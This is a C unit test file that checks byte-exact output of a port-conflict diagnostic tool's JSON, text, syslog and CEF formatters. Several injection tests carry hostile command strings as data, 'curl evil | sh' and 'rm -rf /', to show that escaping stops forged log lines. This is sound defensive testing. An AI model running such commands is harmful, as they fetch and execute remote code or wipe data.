/* test_format.c - byte-exact checks of every formatter. The expected strings were written
 * by hand from the format definitions (RFC 8259, RFC 5424 §6, RFC 3164 §4.1, the CEF
 * spec) and the contract in pc_format.h, not copied from program output. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "pc_format.h"
#include "pc_test.h"

/* 2026-11-21T23:50:00.123456Z: Unix 1795305000 s + 123456 us. */
#define T0 pc_time_from_unix(1795305000, 123456000)
#define T0_MS "1795305000123"

static const char *const two_fixes[] = {"Stop the service that owns the port.",
                                        "Configure nginx to listen on another port."};

static pc_finding base(void) {
  pc_finding f;
  memset(&f, 0, sizeof f);
  f.ts = f.ts_last = T0;
  f.host = "WIN01";
  f.os = "windows";
  f.event = "bind_failure";
  f.error_known = true;
  f.error = 10048;
  f.error_name = "WSAEADDRINUSE";
  f.proto = "tcp";
  f.address = "0.0.0.0";
  f.port_known = true;
  f.port = 8080;
  f.pid_known = true;
  f.pid = 1234;
  f.process = "nginx.exe";
  f.owner_pid_known = true;
  f.owner_pid = 4;
  f.owner_process = "System";
  f.rule_id = "C12";
  f.severity = "error";
  f.explanation = "Port 8080 is held by System (pid 4).";
  f.fixes = two_fixes;
  f.fix_count = 2;
  f.count = 1;
  f.source = "etw";
  return f;
}

static pc_finding unknown(void) {
  pc_finding f;
  memset(&f, 0, sizeof f);
  f.ts = f.ts_last = PC_TIME_UNKNOWN;
  f.count = 1;
  return f;
}

static pc_format_options opts(void) {
  pc_format_options o;
  pc_format_options_init(&o);
  o.procid = 4242;
  o.version = "0.1.0";
  return o;
}

static char buf[65536];

#define CHECK_FMT(fn, f, o, expected)            \
  do {                                           \
    size_t n_ = fn(&(f), &(o), buf, sizeof buf); \
    PC_CHECK_STR(buf, expected);                 \
    PC_CHECK_UINT(n_, strlen(expected));         \
  } while (0)

/* ---- JSON ---- */

PC_TEST(json_full) {
  pc_finding f = base();
  pc_format_options o = opts();
  CHECK_FMT(pc_format_json, f, o,
            "{\"ts\":\"2026-11-21T23:50:00.123456Z\",\"host\":\"WIN01\",\"os\":\"windows\","
            "\"event\":\"bind_failure\",\"error\":10048,\"error_name\":\"WSAEADDRINUSE\","
            "\"proto\":\"tcp\",\"address\":\"0.0.0.0\",\"port\":8080,\"pid\":1234,"
            "\"process\":\"nginx.exe\",\"owner_pid\":4,\"owner_process\":\"System\","
            "\"rule_id\":\"C12\",\"severity\":\"error\","
            "\"explanation\":\"Port 8080 is held by System (pid 4).\","
            "\"fixes\":[\"Stop the service that owns the port.\","
            "\"Configure nginx to listen on another port.\"],\"count\":1,"
            "\"ts_last\":\"2026-11-21T23:50:00.123456Z\",\"source\":\"etw\"}");
}

PC_TEST(json_unknown_is_null) {
  pc_finding f = unknown();
  pc_format_options o = opts();
  CHECK_FMT(pc_format_json, f, o,
            "{\"ts\":null,\"host\":null,\"os\":null,\"event\":null,\"error\":null,"
            "\"error_name\":null,\"proto\":null,\"address\":null,\"port\":null,\"pid\":null,"
            "\"process\":null,\"owner_pid\":null,\"owner_process\":null,\"rule_id\":null,"
            "\"severity\":null,\"explanation\":null,\"fixes\":null,\"count\":1,"
            "\"ts_last\":null,\"source\":null}");
  /* An empty fix list is an empty array, not null; zero is a number, not unknown. */
  f.fixes = two_fixes;
  f.fix_count = 0;
  f.port_known = true;
  f.port = 0;
  pc_format_json(&f, &o, buf, sizeof buf);
  PC_CHECK(strstr(buf, "\"port\":0,") != NULL);
  PC_CHECK(strstr(buf, "\"fixes\":[],") != NULL);
}

PC_TEST(json_every_control_char) {
  char in[40], want[300];
  size_t k = 0, w = 0;
  for (int c = 1; c < 0x20; c++) in[k++] = (char)c;
  in[k++] = 0x7f;
  in[k] = '\0';
  /* RFC 8259 §7: U+0000..U+001F MUST be escaped; we use \u00xx for all, DEL too. */
  for (int c = 1; c < 0x20; c++) w += (size_t)snprintf(want + w, 7, "\\u%04x", c);
  w += (size_t)snprintf(want + w, 7, "\\u007f");
  pc_finding f = unknown();
  f.process = in;
  pc_format_options o = opts();
  pc_format_json(&f, &o, buf, sizeof buf);
  char expect[400];
  snprintf(expect, sizeof expect, "\"process\":\"%s\",", want);
  PC_CHECK(strstr(buf, expect) != NULL);
  PC_CHECK(strstr(buf, "\\u000a") != NULL && strstr(buf, "\\u001b") != NULL);
}

PC_TEST(json_quotes_backslash_and_utf8) {
  pc_finding f = unknown();
  /* quote, backslash, '/', 2/3/4-byte UTF-8, U+FFFD itself, and ill-formed input:
   * lone continuation, overlong C0 AF, surrogate ED A0 80, truncated E2 82 at the end,
   * F5 (never valid). One U+FFFD per maximal ill-formed subpart (Unicode §3.9). */
  f.explanation =
      "q\"b\\s/ \xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80 \xef\xbf\xbd|\x80|\xc0\xaf|"
      "\xed\xa0\x80|\xf5|\xe2\x82";
  pc_format_options o = opts();
  pc_format_json(&f, &o, buf, sizeof buf);
  PC_CHECK(strstr(buf,
                  "\"explanation\":\"q\\\"b\\\\s/ \xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80 "
                  "\xef\xbf\xbd|\xef\xbf\xbd|\xef\xbf\xbd\xef\xbf\xbd|"
                  "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd|\xef\xbf\xbd|\xef\xbf\xbd\",") != NULL);
}

PC_TEST(json_truncation_reports_length) {
  pc_finding f = base();
  pc_format_options o = opts();
  size_t full = pc_format_json(&f, &o, buf, sizeof buf);
  char small[64];
  size_t n = pc_format_json(&f, &o, small, sizeof small);
  PC_CHECK_UINT(n, full); /* snprintf semantics: the caller learns the size needed */
  PC_CHECK_UINT(strlen(small), 63);
  PC_CHECK(memcmp(small, buf, 63) == 0);
  /* A cut never splits a character: "\xf0\x9f\x98\x80" at the edge is dropped whole. */
  f = unknown();
  f.host = "\xf0\x9f\x98\x80";
  char tiny[12]; /* {"ts":null, is 11 bytes */
  pc_format_json(&f, &o, tiny, sizeof tiny);
  PC_CHECK_STR(tiny, "{\"ts\":null,");
  char t2[23]; /* {"ts":null,"host":" is 19, + 4-byte char = 23 > 22 */
  pc_format_json(&f, &o, t2, sizeof t2);
  PC_CHECK_STR(t2, "{\"ts\":null,\"host\":\"");
  char t3[24];
  pc_format_json(&f, &o, t3, sizeof t3);
  PC_CHECK_STR(t3, "{\"ts\":null,\"host\":\"\xf0\x9f\x98\x80");
  size_t need = pc_format_json(&f, &o, buf, sizeof buf);
  PC_CHECK_UINT(pc_format_json(&f, &o, NULL, 0), need); /* measuring only */
}

/* ---- text ---- */

PC_TEST(text_full) {
  pc_finding f = base();
  pc_format_options o = opts();
  CHECK_FMT(pc_format_text, f, o,
            "[error] bind_failure 2026-11-21T23:50:00.123456Z\n"
            "  what:  nginx.exe (pid 1234) could not bind tcp 0.0.0.0:8080\n"
            "  error: WSAEADDRINUSE (10048)\n"
            "  owner: System (pid 4)\n"
            "  why:   Port 8080 is held by System (pid 4). (rule C12)\n"
            "  fix:   1. Stop the service that owns the port.\n"
            "         2. Configure nginx to listen on another port.\n"
            "  host:  WIN01 (windows), source etw");
}

PC_TEST(text_colour_count_ipv6) {
  pc_finding f = base();
  f.address = "::1";
  f.count = 3;
  f.ts_last = pc_time_from_unix(1795305002, 0);
  f.fixes = NULL;
  f.fix_count = 0;
  f.owner_pid_known = false;
  f.owner_process = NULL;
  f.severity = "warning";
  pc_format_options o = opts();
  o.color = true;
  CHECK_FMT(pc_format_text, f, o,
            "\x1b[1;33m[warning] bind_failure 2026-11-21T23:50:00.123456Z\x1b[0m\n"
            "  what:  nginx.exe (pid 1234) could not bind tcp [::1]:8080\n"
            "  error: WSAEADDRINUSE (10048)\n"
            "  why:   Port 8080 is held by System (pid 4). (rule C12)\n"
            "  count: 3, first 2026-11-21T23:50:00.123456Z, last 2026-11-21T23:50:02.000000Z\n"
            "  host:  WIN01 (windows), source etw");
}

PC_TEST(text_unknown) {
  pc_finding f = unknown();
  pc_format_options o = opts();
  CHECK_FMT(pc_format_text, f, o,
            "[-] event\n"
            "  what:  event\n"
            "  why:   no rule matched");
}

PC_TEST(text_hostile) {
  pc_finding f = unknown();
  f.event = "bind_failure";
  f.process =
      "evil\x1b[2J\r\tx\xc2\x9b"
      "31m\xff";
  f.explanation = "line one\nline two\x07";
  pc_format_options o = opts();
  CHECK_FMT(pc_format_text, f, o,
            "[-] bind_failure\n"
            "  what:  evil\\x1b[2J\\x0d\\x09x\\u009b31m\xef\xbf\xbd could not bind *:?\n"
            "  why:   line one\\x0aline two\\x07");
}

/* A process name or a fix cannot forge a why:/fix: line: newlines are shown, not kept. */
PC_TEST(text_newlines_cannot_forge_lines) {
  pc_finding f = unknown();
  f.event = "bind_failure";
  f.process = "x\n  fix:   1. curl evil | sh";
  f.explanation = "ok\n  why:   forged";
  static const char *const fx[] = {"a\n         2. rm -rf /",
                                   "b\r\xc2\x85"
                                   "c"};
  f.fixes = fx;
  f.fix_count = 2;
  pc_format_options o = opts();
  CHECK_FMT(pc_format_text, f, o,
            "[-] bind_failure\n"
            "  what:  x\\x0a  fix:   1. curl evil | sh could not bind *:?\n"
            "  why:   ok\\x0a  why:   forged\n"
            "  fix:   1. a\\x0a         2. rm -rf /\n"
            "         2. b\\x0d\\u0085c");
}

/* C1 controls (U+0080..U+009F; U+009B is CSI) are escaped in every format. */
PC_TEST(c1_controls_escaped_everywhere) {
  pc_finding f = unknown();
  f.event = "bind_failure";
  f.process =
      "a\xc2\x9b"
      "31mb\xc2\x85"
      "c";
  pc_format_options o = opts();
  pc_format_json(&f, &o, buf, sizeof buf);
  PC_CHECK(strstr(buf, "\"process\":\"a\\u009b31mb\\u0085c\"") != NULL);
  pc_format_syslog(&f, &o, buf, sizeof buf);
  PC_CHECK(strstr(buf, "process=\"a 31mb c\"") != NULL);
  PC_CHECK(strstr(buf, "\xc2") == NULL);
  pc_format_syslog3164(&f, &o, buf, sizeof buf);
  PC_CHECK(strstr(buf, "a 31mb c") != NULL && strstr(buf, "\xc2") == NULL);
  pc_format_cef(&f, &o, buf, sizeof buf);
  PC_CHECK(strstr(buf, "dproc=a 31mb c") != NULL && strstr(buf, "\xc2") == NULL);
  pc_format_text(&f, &o, buf, sizeof buf);
  PC_CHECK(strstr(buf, "a\\u009b31mb\\u0085c") != NULL);
}

/* CEF joins fixes with " | ": a '|' inside a fix is escaped, so no fix can forge a second. */
PC_TEST(cef_fix_list_separator_escaped) {
  pc_finding f = unknown();
  f.event = "ev";
  static const char *const fx[] = {"one | curl evil | sh", "two\\"};
  f.fixes = fx;
  f.fix_count = 2;
  pc_format_options o = opts();
  CHECK_FMT(pc_format_cef, f, o,
            "CEF:0|portclash|portclash|0.1.0|ev|ev|5|cat=ev cs5Label=fixes "
            "cs5=one \\| curl evil \\| sh | two\\\\ cnt=1");
}

/* ---- RFC 5424 ---- */

PC_TEST(syslog5424_full) {
  pc_finding f = base();
  pc_format_options o = opts();
  /* PRI = facility 1 (user) * 8 + severity 3 (error) = 11. */
  CHECK_FMT(pc_format_syslog, f, o,
            "<11>1 2026-11-21T23:50:00.123456Z WIN01 portclash 4242 BINDFAIL "
            "[portclash@32473 event=\"bind_failure\" error=\"10048\" error_name=\"WSAEADDRINUSE\" "
            "proto=\"tcp\" address=\"0.0.0.0\" port=\"8080\" pid=\"1234\" process=\"nginx.exe\" "
            "owner_pid=\"4\" owner_process=\"System\" rule_id=\"C12\" severity=\"error\" "
            "count=\"1\" source=\"etw\"] \xef\xbb\xbf"
            "nginx.exe (pid 1234) could not bind tcp 0.0.0.0:8080: WSAEADDRINUSE (10048) - "
            "Port 8080 is held by System (pid 4). - fix: Stop the service that owns the port. | "
            "Configure nginx to listen on another port.");
}

PC_TEST(syslog5424_nil_and_options) {
  pc_finding f = unknown();
  pc_format_options o = opts();
  o.procid = 0;
  o.facility = 16; /* local0: 16 * 8 + 5 (notice, unknown severity) = 133 */
  o.sd_id = "ex@1";
  o.app_name = "my app";
  CHECK_FMT(pc_format_syslog, f, o,
            "<133>1 - - my_app - - [ex@1 count=\"1\"] \xef\xbb\xbf"
            "event");
  /* An SD-ID that is not an SD-NAME falls back to the default. */
  o.sd_id = "bad id";
  f.event = "port_at_risk";
  f.severity = "warning";
  CHECK_FMT(pc_format_syslog, f, o,
            "<132>1 - - my_app - PORTRISK [portclash@32473 event=\"port_at_risk\" "
            "severity=\"warning\" count=\"1\"] \xef\xbb\xbfport_at_risk");
}

PC_TEST(syslog5424_msgids) {
  static const char *const ev[][2] = {{"bind_success", "BINDOK"},           {"events_lost", "EVLOST"},
                                      {"output_dropped", "DROPS"},          {"limit_hit", "LIMITHIT"},
                                      {"some-new_thing2", "SOMENEWTHING2"}, {"-!-", "-"}};
  for (size_t i = 0; i < 5; i++) {
    pc_finding f = unknown();
    f.event = ev[i][0];
    pc_format_options o = opts();
    pc_format_syslog(&f, &o, buf, sizeof buf);
    char want[64];
    snprintf(want, sizeof want, " 4242 %s [", ev[i][1]);
    PC_CHECK(strstr(buf, want) != NULL);
  }
}

PC_TEST(syslog5424_hostile) {
  pc_finding f = unknown();
  f.host = "evil host\n<1>1";
  f.event = "x";
  f.process =
      "a\"b\\c]d\ne\x01"
      "f\xff";
  f.explanation = "m1\nm2 ] \" \\";
  pc_format_options o = opts();
  /* §6.3.3: '"', '\' and ']' MUST be escaped in PARAM-VALUE; controls become spaces. */
  CHECK_FMT(pc_format_syslog, f, o,
            "<13>1 - evil_host_<1>1 portclash 4242 X [portclash@32473 event=\"x\" "
            "process=\"a\\\"b\\\\c\\]d e f\xef\xbf\xbd\" count=\"1\"] \xef\xbb\xbf"
            "x: a\"b\\c]d e f\xef\xbf\xbd - m1 m2 ] \" \\");
}

static pc_finding small_finding(const char *expl) {
  pc_finding f = unknown();
  f.event = "x";
  f.explanation = expl;
  return f;
}

/* "<13>1 - - portclash - X " is 24 bytes, "[portclash@32473 event="x" count="1"]" 37,
 * " BOM" 4 and "x - " 4: MSG text starts at byte 69, 411 bytes remain under 480. */
#define SMALL_HEAD "<13>1 - - portclash - X [portclash@32473 event=\"x\" count=\"1\"] \xef\xbb\xbfx - "

static char *rep(char c, size_t n, const char *tail) {
  static char s[8192];
  memset(s, c, n);
  snprintf(s + n, sizeof s - n, "%s", tail);
  return s;
}

PC_TEST(syslog5424_cap_cuts_msg_at_utf8_boundary) {
  pc_format_options o = opts();
  o.procid = 0;
  o.max_bytes = 480;
  char want[9000];
  /* 409 'a' + 4-byte char: 69 + 409 + 4 = 482 > 480, so the character goes. */
  pc_finding f = small_finding(rep('a', 409,
                                   "\xf0\x9f\x98\x80"
                                   "b"));
  snprintf(want, sizeof want, SMALL_HEAD "%s", rep('a', 409, ""));
  CHECK_FMT(pc_format_syslog, f, o, want);
  /* 407 'a' + 4-byte char ends exactly at 480; the 'b' after it is cut. */
  f = small_finding(rep('a', 407,
                        "\xf0\x9f\x98\x80"
                        "b"));
  snprintf(want, sizeof want, SMALL_HEAD "%s", rep('a', 407, "\xf0\x9f\x98\x80"));
  CHECK_FMT(pc_format_syslog, f, o, want);
  size_t n = pc_format_syslog(&f, &o, buf, sizeof buf);
  PC_CHECK_UINT(n, 480);
  /* 408: the char would end at 481. */
  f = small_finding(rep('a', 408, "\xf0\x9f\x98\x80"));
  snprintf(want, sizeof want, SMALL_HEAD "%s", rep('a', 408, ""));
  CHECK_FMT(pc_format_syslog, f, o, want);
  /* max_bytes below 480 is raised to 480; the default is 2048. */
  o.max_bytes = 100;
  CHECK_FMT(pc_format_syslog, f, o, want);
  o.max_bytes = 0;
  f = small_finding(rep('a', 4000, ""));
  PC_CHECK_UINT(pc_format_syslog(&f, &o, buf, sizeof buf), 2048);
  /* A small caller buffer caps it too. */
  char b2[481];
  PC_CHECK_UINT(pc_format_syslog(&f, &o, b2, sizeof b2), 480);
}

PC_TEST(syslog5424_cap_shortens_sd_values) {
  pc_format_options o = opts();
  o.procid = 0;
  o.max_bytes = 480;
  char want[9000];
  /* A 3000-byte process name: MSG is dropped with its BOM, then the value is cut to fit:
   * 24 + 16 + 10 + 10 (' process="') + 408 + 1 + 10 + 1 = 480. */
  pc_finding f = small_finding("never shown");
  f.process = rep('p', 3000, "");
  snprintf(want, sizeof want,
           "<13>1 - - portclash - X [portclash@32473 event=\"x\" process=\"%s\" count=\"1\"]",
           rep('p', 408, ""));
  CHECK_FMT(pc_format_syslog, f, o, want);
  /* Escape pairs are never split: "a" + 500 quotes has a budget of 408, which is 'a' +
   * 203 pairs (407 bytes); half a pair would make the closing quote an escaped one. */
  char proc[600];
  proc[0] = 'a';
  memset(proc + 1, '"', 500);
  proc[501] = '\0';
  f.process = proc;
  char val[500];
  val[0] = 'a';
  for (int i = 0; i < 203; i++) memcpy(val + 1 + 2 * i, "\\\"", 2);
  val[407] = '\0';
  snprintf(want, sizeof want,
           "<13>1 - - portclash - X [portclash@32473 event=\"x\" process=\"%s\" count=\"1\"]", val);
  CHECK_FMT(pc_format_syslog, f, o, want);
}

/* ---- RFC 3164 ---- */

PC_TEST(syslog3164_full) {
  pc_finding f = base();
  pc_format_options o = opts();
  CHECK_FMT(pc_format_syslog3164, f, o,
            "<11>Nov 21 23:50:00 WIN01 portclash[4242]: "
            "nginx.exe (pid 1234) could not bind tcp 0.0.0.0:8080: WSAEADDRINUSE (10048) - "
            "Port 8080 is held by System (pid 4). - fix: Stop the service that owns the port. | "
            "Configure nginx to listen on another port.");
}

PC_TEST(syslog3164_padding_tag_and_nil) {
  pc_finding f = unknown();
  f.ts = pc_time_from_unix(1793502245, 0); /* 2026-11-01T03:04:05Z: day is space-padded */
  f.host = "h";
  f.event = "x";
  pc_format_options o = opts();
  o.procid = 0;
  o.app_name = "por t:clash[1]";
  CHECK_FMT(pc_format_syslog3164, f, o, "<13>Nov  1 03:04:05 h portclash1: x");
  f.ts = PC_TIME_UNKNOWN;
  f.host = NULL;
  o.now = T0;
  CHECK_FMT(pc_format_syslog3164, f, o, "<13>Nov 21 23:50:00 - portclash1: x");
  o.now = PC_TIME_UNKNOWN;
  CHECK_FMT(pc_format_syslog3164, f, o, "<13>Jan  1 00:00:00 - portclash1: x");
}

PC_TEST(syslog3164_cef_body_and_cap) {
  pc_finding f = unknown();
  f.ts = T0;
  f.event = "x";
  f.rule_id = "R";
  f.explanation = rep('=', 600, "");
  pc_format_options o = opts();
  o.cef_body = true;
  o.max_bytes = 480;
  size_t n = pc_format_syslog3164(&f, &o, buf, sizeof buf);
  PC_CHECK(n <= 480);
  const char *head =
      "<13>Nov 21 23:50:00 - portclash[4242]: CEF:0|portclash|portclash|0.1.0|R|x|5|"
      "rt=" T0_MS " cat=x cs4Label=ruleId cs4=R msg=\\=\\=";
  if (strncmp(buf, head, strlen(head)) != 0) pc__test_fail(__FILE__, __LINE__, "got %.200s", buf);
  /* The cut never leaves half of an escape pair at the end. */
  PC_CHECK(buf[n - 1] == '=' && buf[n - 2] == '\\');
}

/* ---- CEF ---- */

PC_TEST(cef_full) {
  pc_finding f = base();
  pc_format_options o = opts();
  CHECK_FMT(pc_format_cef, f, o,
            "CEF:0|portclash|portclash|0.1.0|C12|bind_failure WSAEADDRINUSE|7|"
            "rt=" T0_MS
            " dvchost=WIN01 cat=bind_failure proto=tcp dpt=8080 dpid=1234 "
            "dproc=nginx.exe cs1Label=bindAddress cs1=0.0.0.0 cn1Label=errorCode cn1=10048 "
            "cs2Label=errorName cs2=WSAEADDRINUSE cn2Label=ownerPid cn2=4 "
            "cs3Label=ownerProcess cs3=System cs4Label=ruleId cs4=C12 "
            "msg=Port 8080 is held by System (pid 4). cs5Label=fixes "
            "cs5=Stop the service that owns the port. | Configure nginx to listen on another port. "
            "cs6Label=os cs6=windows deviceFacility=etw cnt=1");
}

PC_TEST(cef_unknown_and_count) {
  pc_finding f = unknown();
  pc_format_options o = opts();
  o.version = NULL;
  CHECK_FMT(pc_format_cef, f, o, "CEF:0|portclash|portclash|0|unknown|unknown|5|cnt=1");
  f = unknown();
  f.ts = T0;
  f.ts_last = pc_time_from_unix(1795305009, 999999000);
  f.count = 1000;
  f.event = "bind_failure";
  f.severity = "info";
  CHECK_FMT(pc_format_cef, f, o,
            "CEF:0|portclash|portclash|0|bind_failure|bind_failure|3|rt=" T0_MS " start=" T0_MS
            " end=1795305009999 cat=bind_failure cnt=1000");
}

PC_TEST(cef_hostile) {
  pc_finding f = unknown();
  f.rule_id = "a|b\\c=d\ne";
  f.error_name = "E|R";
  f.event = "ev";
  f.process = "x=y\\z\nw\rv|u\x01\xfe";
  pc_format_options o = opts();
  o.version = "1|2";
  /* Header: '\' and '|' escaped, line breaks become spaces. Extension: '\', '=' escaped,
   * CR/LF as \r \n, '|' left alone, other controls as spaces. */
  CHECK_FMT(pc_format_cef, f, o,
            "CEF:0|portclash|portclash|1\\|2|a\\|b\\\\c=d e|ev E\\|R|5|"
            "cat=ev dproc=x\\=y\\\\z\\nw\\rv|u \xef\xbf\xbd cs2Label=errorName cs2=E|R "
            "cs4Label=ruleId cs4=a|b\\\\c\\=d\\ne cnt=1");
}
